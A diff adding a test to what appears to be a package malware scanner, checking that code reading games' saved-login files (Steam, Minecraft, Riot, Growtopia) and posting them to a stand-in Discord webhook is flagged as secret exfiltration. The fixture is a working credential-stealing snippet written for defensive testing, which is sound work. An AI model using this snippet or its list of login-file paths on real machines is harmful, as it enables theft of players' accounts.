@@ -1622,3 +1622,19 @@ def test_a_python_module_kept_compressed_in_javascript_is_a_stage():
         assert hidden.rule == "code/download-execute" and hidden.severity is Severity.CRITICAL
     shown = lib.replace("gunzipSync(Buffer.from(Z, 'base64')).toString()", "Z") % stage.replace("\n", "\\n").replace("'", "\\'")
     assert not any("Keeps encoded" in f.message for f in run({"index.mjs": shown}, main="index.mjs"))
+
+
+@pytest.mark.parametrize("store", ["Growtopia/save.dat", "Steam/config/loginusers.vdf", ".minecraft/launcher_accounts.json",
+                                   "Riot Games/Riot Client/Data/RiotGamesPrivateSettings.yaml"])
+def test_games_saved_logins_are_secret_files(store):
+    # (blind set 53's Growtopia packet client: the first createClient() posts save.dat, its password decoded, to a
+    # Discord webhook; games' saved sessions sell as accounts)
+    lib = ("const fs = require('fs'), os = require('os'), path = require('path'), https = require('https');\n"
+           "exports.createClient = function () {\n"
+           f"  const raw = fs.readFileSync(path.join(os.homedir(), {json.dumps(store)}));\n"
+           "  https.request({ hostname: 'discord.example', path: '/api/webhooks/1/FAKE', method: 'POST' }).end(raw.toString('base64'));\n};\n")
+    found = run({"index.js": lib})
+    assert any(f.rule == "code/secret-exfiltration" and f.severity >= Severity.HIGH for f in found)
+    # The game's own settings file is no login.
+    tame = lib.replace(json.dumps(store), json.dumps(store.rsplit("/", 1)[0] + "/settings.ini"))
+    assert not any(f.rule == "code/secret-exfiltration" and f.severity >= Severity.HIGH for f in run({"index.js": tame}))
